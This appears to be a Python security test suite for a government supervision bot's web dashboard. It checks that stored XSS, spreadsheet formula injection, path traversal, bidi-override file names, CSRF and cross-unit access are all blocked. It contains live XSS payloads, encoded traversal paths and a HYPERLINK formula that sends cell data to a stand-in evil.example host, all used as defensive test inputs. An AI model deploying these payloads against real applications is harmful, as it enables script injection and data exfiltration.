"""Attacks on what the dashboard shows and serves, each a defence that held and must keep holding: stored XSS in
every field a person can type (a name, a note, a 约谈's 要点, a file's name), formula cells in the 督办台账, path
traversal in /evidence, /static and /downloads, a liaison on another unit's page, CSRF; and names with bidi
overrides, and two files whose names are `x.pdf.part` and `x.pdf`."""

from __future__ import annotations

import io
from pathlib import Path

import aiohttp
from openpyxl import load_workbook
from yarl import URL

from supervisor_bot.core.evidence import Evidence
from supervisor_bot.core.people import SYSTEM
from supervisor_bot.core.reports import AuditEntry
from supervisor_bot.core.status import Status
from supervisor_bot.sandbox import RecordFilter
from supervisor_bot.web.auth import SECRET_FILE
from tests.e2e.harness import BUREAU_CHAT, COORDINATOR, MONDAY, World
from tests.e2e.web_harness import WebWorld, a_web_world

FIN, EDU = "市财政局", "市教育局"
XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&"
XSS_WORD = "<script>alert(3)</script><svg/onload=alert(4)>"  # one word: a command's argument
RAW = ("<script>alert", "<img src=x", "<svg/onload")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"详见附件")'
RLO = "\u202e"
PAGES = ("/", "/units", f"/units/{FIN}", "/measures/33", "/measures/46", "/overdue", "/interviews")


def _bound(name: str) -> bool:
    return name in (FIN, EDU)


async def _file(world: World, name: str, data: bytes, caption: str = "措施46") -> None:
    chat = world.chats[FIN]
    mark = world.sandbox.mark()
    world.sandbox.post_message(
        chat,
        world.liaisons[FIN],
        reply_to_message_id=int(world.checklist(FIN)["message_id"]),
        document=(name, data, "application/pdf"),
        caption=caption,
    )
    await world.wait(RecordFilter(chat_id=chat, text_contains="已收到佐证材料"), after=mark)


async def _hostile_week(web: WebWorld) -> None:
    """A liaison with a hostile name reports with hostile notes and a hostile file; a 约谈 with hostile 要点."""
    world = web.world
    await world.tick(MONDAY)
    world.sandbox.add_user(world.liaisons[FIN], f"{XSS}{RLO}gpj.exe联络员")
    await world.report(FIN, 33, Status.BLOCKED, XSS)
    await world.report(FIN, 46, Status.BLOCKED, FORMULA)
    await _file(world, f'"><svg onload=alert(5)>{RLO}fdp.exe', b"%PDF-1.4 x")
    reply = await world.command(COORDINATOR, COORDINATOR, "yuetan", f"{FIN} 2021-09-10 {XSS_WORD} 整改期限2021-09-24")
    assert "已记录" in (reply.text or ""), reply.text


async def _text(client: aiohttp.ClientSession, url: str | URL) -> tuple[int, str]:
    async with client.get(url, allow_redirects=False) as response:
        return response.status, await response.text(errors="replace")


async def test_stored_xss_in_every_field_is_shown_as_text(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        await _hostile_week(web)
        client = await web.logged_in(COORDINATOR)
        shown = ""
        for path in PAGES:
            status, html = await _text(client, web.url + path)
            assert status == 200, path
            for raw in RAW:
                assert raw not in html, (path, raw)
            shown += html
        for escaped in ("&lt;script&gt;alert(1)", "&lt;script&gt;alert(3)", "&lt;svg onload=alert(5)"):
            assert escaped in shown, escaped  # the payloads are there, as text
        assert RLO not in shown


async def test_formula_cells_are_text_in_the_ledger(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        await _hostile_week(web)
        client = await web.logged_in(COORDINATOR)
        async with client.get(web.url + "/downloads/ledger.xlsx") as response:
            book = load_workbook(io.BytesIO(await response.read()))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
        assert any(FORMULA in str(c.value) for c in cells), "the note is in the ledger"
        assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no cell Excel would compute


async def test_path_traversal_reaches_no_file_outside(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        world = web.world
        await world.tick(MONDAY)
        secret = (world.data_dir / SECRET_FILE).read_text(encoding="ascii")
        client = await web.logged_in(COORDINATOR)
        stored = Evidence(
            "990", "2021-W36", 46, FIN, "x.pdf", "evidence/../web-secret", 64, MONDAY, SYSTEM, world.chats[FIN]
        )
        audit = AuditEntry(MONDAY, SYSTEM, world.chats[FIN], "evidence", "2021-W36", 46, FIN)
        assert world.shell is not None
        await world.shell.runner.call(world.runtime.store.save_evidence, stored, audit)  # a record made to escape
        for path in (
            "/evidence/990",
            "/evidence/..%2f..%2fweb-secret",
            "/evidence/%2e%2e/web-secret",
            "/static/../web-secret",
            "/static/%2e%2e/%2e%2e/%2e%2e/data/web-secret",
            "/static/..%2f..%2f..%2fweb-secret",
            "/downloads/..%2fweb-secret",
            "/downloads/%2e%2e%2f%2e%2e%2fstate.json",
            "/units/..%2f..%2fweb-secret",
        ):
            status, body = await _text(client, URL(web.url + path, encoded=True))
            assert status in (400, 403, 404), (path, status)
            assert secret not in body and '"bindings"' not in body, path


async def test_a_liaison_sees_nothing_of_another_unit(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        world = web.world
        await world.tick(MONDAY)
        await _file(world, "财政报告.pdf", b"%PDF-1.4 fin")
        [kept] = world.runtime.store.evidence()
        other = await web.logged_in(world.liaisons[EDU])
        for path in (f"/units/{FIN}", f"/evidence/{kept.id}", "/units", "/measures/46", "/downloads/ledger.xlsx"):
            status, body = await _text(other, web.url + path)
            assert status == 403 and "fin" not in body, path
        status, html = await _text(other, f"{web.url}/units/{EDU}")
        assert status == 200
        csrf = html.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        form = {"csrf": csrf, "act": "close", "ticket": "1", "measure": "46", "workdays": "0", "back": "/"}
        async with other.post(f"{web.url}/actions", data=form, allow_redirects=False) as response:
            assert response.status == 403


async def test_csrf_a_form_from_elsewhere_changes_nothing(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        world = web.world
        await world.tick(MONDAY)
        mark = world.sandbox.mark()
        await world.report(FIN, 46, Status.DONE, "已完成")  # a 办结核实 awaits the bureau: 销号 is one form away
        verify = await world.wait(RecordFilter(chat_id=BUREAU_CHAT, text_contains="【办结核实】"), after=mark)
        ticket = (verify.text or "").split("编号B", 1)[1].split("）", 1)[0]
        coordinator = await web.logged_in(COORDINATOR)
        before = (world.runtime.store.extensions(), world.runtime.store.closures(), len(world.sandbox.sent()))
        for csrf in ("", "forged", "A" * 43):
            form = {"csrf": csrf, "act": "close", "ticket": ticket, "measure": "46", "workdays": "0", "back": "/"}
            async with coordinator.post(f"{web.url}/actions", data=form, allow_redirects=False) as response:
                assert response.status == 403
        assert (world.runtime.store.extensions(), world.runtime.store.closures(), len(world.sandbox.sent())) == before


async def test_bidi_overrides_are_removed_from_every_name_kept_or_shown(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        world = web.world
        await _hostile_week(web)
        store = world.runtime.store
        names = [e.name for e in store.evidence()] + [r.actor.name for r in store.reports("2021-W36").values()]
        assert names and all(RLO not in name for name in names)
        assert any(name.endswith("fdp.exe") for name in names)  # shown as sent, without the override
        assert all(RLO not in (r.text or "") for r in world.sandbox.sent())  # nor in anything the bot said


async def test_a_file_named_like_anothers_temporary_file_destroys_nothing(tmp_path: Path) -> None:
    async with a_web_world(tmp_path, bind=_bound) as web:
        world = web.world
        await world.tick(MONDAY)
        await _file(world, "x.pdf.part", b"%PDF-1.4 first")
        await _file(world, "x.pdf", b"%PDF-1.4 second")
        kept = {e.name: e for e in world.runtime.store.evidence()}
        assert set(kept) == {"x.pdf.part", "x.pdf"}
        client = await web.logged_in(COORDINATOR)
        for name, data in (("x.pdf.part", b"%PDF-1.4 first"), ("x.pdf", b"%PDF-1.4 second")):
            async with client.get(f"{web.url}/evidence/{kept[name].id}") as response:
                assert response.status == 200 and await response.read() == data, name
        leftovers = [p.name for p in (world.data_dir / "evidence").rglob("*") if p.name.startswith(".")]
        assert leftovers == []
